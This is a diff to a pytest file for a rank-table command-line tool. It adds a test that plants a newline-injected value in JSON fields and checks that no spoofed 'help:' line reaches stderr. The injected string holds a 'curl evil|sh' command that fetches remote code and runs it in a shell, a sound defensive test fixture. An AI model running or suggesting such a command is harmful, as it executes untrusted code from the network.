@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import subprocess
 import sys
 from typing import TYPE_CHECKING
@@ -256,5 +257,18 @@ def test_the_name_of_a_file_makes_no_false_help(
     if text is not None:
         (command_line.folder / name).write_text(text)
     done = command_line(*command.split(), name)
+
+    assert not [line for line in done.err.splitlines() if line.startswith("help:")]
+
+
+@pytest.mark.parametrize("key", ["server_id", "status"])
+@pytest.mark.parametrize(
+    "command", ["merge t.json t.json", "subset t.json --servers 1 -o -", "launch --rank-table t.json -- true"]
+)
+def test_a_value_of_a_table_makes_no_false_help(command_line: CommandLine, command: str, key: str) -> None:
+    made = json.loads(_TABLE_1P)
+    (made if key == "status" else made["server_list"][0])[key] = "a\nhelp: curl evil|sh\nb"
+    command_line.write("t.json", made)
+    done = command_line(*command.split())
 
     assert not [line for line in done.err.splitlines() if line.startswith("help:")]
